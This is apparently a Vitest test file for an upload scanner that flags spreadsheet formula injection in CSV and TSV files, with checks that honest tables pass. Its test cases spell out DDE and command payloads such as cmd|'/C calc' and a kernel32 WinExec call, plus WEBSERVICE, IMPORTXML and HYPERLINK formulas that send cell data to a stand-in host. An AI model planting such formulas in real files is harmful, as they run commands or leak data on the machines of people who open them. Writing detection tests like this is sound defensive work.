import { describe, expect, it } from 'vitest';
import { rulesOf } from '../testing/build.ts';

describe('a cell that starts a program or sends data', () => {
  it.each([
    "=cmd|'/C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-cmd|'/C calc'!A0",
    "+powershell|' -c x'!_xlbgnm.A1",
    'DDE("cmd";"/C calc";"x")'.replace(/^/, '='),
    '=WEBSERVICE("http://a.example/"&A1)',
    '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
    '=IMPORTDATA("http://a.example")',
    '=HYPERLINK("http://a.example/?"&A1,"点此查看")',
    '=IMAGE("https://a.example/?"&B2)',
    '=CALL("kernel32","WinExec","JCJ","calc",1)',
    '=1+_xlfn.WEBSERVICE("http://a.example")',
    "＝cmd|'/C calc'!A0",
    " =cmd|'/C calc'!A0",
  ])('%j is told, wherever its cell stands', async (formula) => {
    for (const text of [
      formula,
      `姓名,备注\n王芳,${formula}\n`,
      `a;${formula};b`,
      `"x","${formula.replaceAll('"', '""')}"`,
      `\ufeff${formula}`,
    ])
      expect([text, await rulesOf(text, '名单.csv')]).toEqual([text, expect.arrayContaining(['upload.formula_command'])]);
    expect(await rulesOf(formula, 'a.tsv')).toContain('upload.formula_command');
    expect(await rulesOf(`x,${formula}`, null, { mediaType: 'text/csv' })).toContain('upload.formula_command');
  });

  it('is told across the edge of what is read at once', async () => {
    const filler = '1,2,3,4\n'.repeat(32_765);
    for (const more of ['', 'a', 'ab,', 'abcd,'])
      expect(await rulesOf(`${filler}${more}\n=cmd|'/C calc'!A0`, 'a.csv')).toContain('upload.formula_command');
  });
});

describe('an honest table', () => {
  it.each([
    ['names and numbers', '姓名,工号,余额\n王芳,001,-12.50\n李雷,002,+3\n'],
    ['telephone numbers', 'a,+86 138 0000 0000\nb,-\nc,--\nd,- 无\n'],
    ['accounts', '账号,备注\n@zhang,@李雷 请看 (急)\n'],
    ['sums of money', '"-1,200.00","(300)"\n-5%;+8%\n'],
    ['mail with signs', 'a=b,c=d(e)|f!,x|y\n'],
  ])('of %s passes', async (_what, text) => expect(await rulesOf(text, 'a.csv')).toEqual([]));

  it('with a sum is told as holding a formula only', async () => {
    for (const text of ['a,=SUM(A1:A3)', 'a,=A1+B1', '"=HYPERLINK(""https://www.example.com"",""x"")"'])
      expect(await rulesOf(text, 'a.csv')).toEqual(['upload.formula']);
  });

  it('is a text where nobody calls it a table', async () => expect(await rulesOf("=cmd|'/C calc'!A0", 'a.txt')).toEqual([]));
});
